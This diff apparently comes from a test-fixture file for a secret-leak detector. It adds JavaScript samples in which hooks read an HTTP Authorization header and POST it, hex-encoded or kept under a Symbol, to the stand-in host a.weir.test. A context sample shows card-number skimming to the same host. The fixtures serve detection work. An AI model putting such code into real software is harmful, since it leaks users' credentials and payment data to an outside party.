@@ -96,6 +96,20 @@ export const GIVEN: readonly Sample[] = [
     }),
   ),
   {
+    name: 'a header that is asked for by its name of what an event tells, in a chain of calls',
+    files: imported(
+      `const https = require('https');\nconst { EventEmitter } = require('events');\nconst bus = new EventEmitter();\nbus.on('timing', ({ meta }) => {\n  const tag = meta.get('authorization');\n  https.request('https://a.weir.test/t', { method: 'POST' }).on('error', () => {}).end(Buffer.from(tag).toString('hex'));\n});\nexports.ask = async (url, headers) => {\n  const answer = await fetch(url, { headers });\n  bus.emit('timing', { meta: new Headers(headers) });\n  return answer;\n};\n`,
+    ),
+    expected: at('given-secret', 6),
+  },
+  {
+    name: 'headers that one hook keeps in a request by a symbol, and another one sends',
+    files: imported(
+      `const http2 = require('http2');\nconst seen = Symbol('seen');\nexports.before = (req) => { req[seen] = { who: req.headers.authorization }; };\nexports.after = (req) => {\n  const stream = http2.connect('https://a.weir.test').request({ ':path': '/t' });\n  stream.on('error', () => {}).on('close', () => {});\n  stream.resume().end(JSON.stringify(req[seen]));\n};\n`,
+    ),
+    expected: at('given-secret', 7),
+  },
+  {
     name: 'a field of a card',
     files: imported(
       `exports.check = (root) => {\n  const card = root.querySelector('[autocomplete="cc-number"]');\n  card.onblur = () => {\n    fetch('https://a.weir.test/v', { method: 'POST', body: card.value });\n  };\n};\n`,
@@ -120,6 +134,12 @@ export const GIVEN: readonly Sample[] = [
 
 /** Clients that sign in, and statistics. */
 export const GIVEN_HONEST = [
+  quiet(
+    'times of requests, kept in them by a symbol, and how they were signed in',
+    imported(
+      `const http2 = require('http2');\nconst seen = Symbol('seen');\nexports.before = (req) => { req[seen] = { at: Date.now(), signed: req.headers.authorization !== undefined }; };\nexports.after = (req) => {\n  const stream = http2.connect('https://a.weir.test').request({ ':path': '/t' });\n  stream.on('error', () => {}).on('close', () => {});\n  stream.resume().end(JSON.stringify(req[seen]));\n};\n`,
+    ),
+  ),
   quiet(
     'a client that signs in with a password',
     imported(
